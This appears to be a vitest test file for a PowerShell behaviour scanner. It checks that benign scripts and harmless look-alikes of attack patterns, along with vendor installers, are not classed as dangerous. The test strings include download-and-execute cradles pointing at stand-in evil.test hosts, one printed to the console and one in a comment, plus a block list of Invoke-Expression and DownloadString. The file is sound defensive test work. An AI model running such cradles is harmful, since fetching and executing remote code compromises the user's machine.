import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FIXTURES } from '../../helpers.js';
import { dangerous } from '../../support/behaviours.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Benign PowerShell from real skills (copied into test/fixtures/code/powershell/benign/, each file says
 * where from) and look-alikes of the patterns attackers use: strings that only mention a cradle, block
 * lists, comments, ordinary cleanup, API calls with their own token. Vendors' installers are true facts
 * and must classify as the installers they are.
 */

const DIR = join(FIXTURES, 'code/powershell/benign');
const ps = (code: string) => factsOf('powershell', code);

describe('PowerShell benign look-alikes', () => {
  it.each(['appinsights.ps1', 'foundry-agent-sync.ps1'])(
    '%s (from a real skill): no dangerous fact',
    async (file) => {
      const r = await ps(readFileSync(join(DIR, file), 'utf8'));
      expect(dangerous(r.behaviours)).toEqual([]);
      expect(r.units[0]!.parse).not.toBe('gave-up');
    },
  );

  it('the foundry sync script is still seen posting its manifest (file data, no secret)', async () => {
    const r = await ps(readFileSync(join(DIR, 'foundry-agent-sync.ps1'), 'utf8'));
    const send = ofKind(r, 'send')[0]!;
    expect(send.data.taints).toContain('file');
    expect(send.data.secret).toBeUndefined();
  });

  it('vendor installers from real skills: true facts, classified as vendor installers', async () => {
    expect(readdirSync(DIR)).toContain('installers.ps1');
    const r = await ps(readFileSync(join(DIR, 'installers.ps1'), 'utf8'));
    const hosts = ofKind(r, 'execute')
      .filter((b) => b.code.taints.includes('download'))
      .map((b) => `${b.endpoint?.host}:${b.endpoint?.cls}`);
    expect(hosts).toEqual(
      expect.arrayContaining([
        'aspire.dev:vendor-installer',
        'astral.sh:vendor-installer',
        'community.chocolatey.org:vendor-installer',
      ]),
    );
    expect(ofKind(r, 'config').map((b) => b.value.toLowerCase())).toEqual([
      'executionpolicy bypass',
      'executionpolicy bypass',
    ]);
    // Clearing Windows' temp and update caches is not destruction of the system.
    expect(ofKind(r, 'destroy')).toEqual([]);
  });

  it.each([
    [
      'a cradle only written to the console',
      `Write-Host "To install, run: iex (irm https://get.evil.test/i.ps1)"`,
    ],
    [
      'a cradle in a comment',
      `# IEX (New-Object Net.WebClient).DownloadString('https://x.evil.test/a')\nGet-Date`,
    ],
    [
      'a block-list',
      `$blocked = @('Invoke-Expression', 'iex', 'DownloadString', 'FromBase64String', '-EncodedCommand')`,
    ],
    [
      'cleanup of build output',
      `Remove-Item -Recurse -Force .\\dist, .\\node_modules -ErrorAction SilentlyContinue`,
    ],
    ['PATH for the session', `$env:PATH += ";C:\\tools\\bin"`],
    ['a safe execution policy', `Set-ExecutionPolicy RemoteSigned -Scope CurrentUser`],
    [
      'reading project files',
      `$pkg = Get-Content package.json -Raw | ConvertFrom-Json; Get-ChildItem -Recurse -Filter *.md`,
    ],
    [
      'an API call with its own token',
      `Invoke-RestMethod -Uri https://api.github.com/repos/o/r/releases/latest -Headers @{ Authorization = "Bearer $env:GITHUB_TOKEN" }`,
    ],
    [
      'encoding (not decoding) base64',
      `$b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('hello'))`,
    ],
    [
      'an installer started and waited for',
      `Start-Process msiexec.exe -ArgumentList '/i', 'setup.msi', '/quiet' -Wait`,
    ],
    [
      'a temp folder',
      `New-Item -ItemType Directory -Path "$env:TEMP\\build" -Force | Out-Null; Set-Content "$env:TEMP\\build\\log.txt" 'ok'`,
    ],
  ])('%s', async (_name, code) => {
    expect(dangerous((await ps(code)).behaviours)).toEqual([]);
  });
});
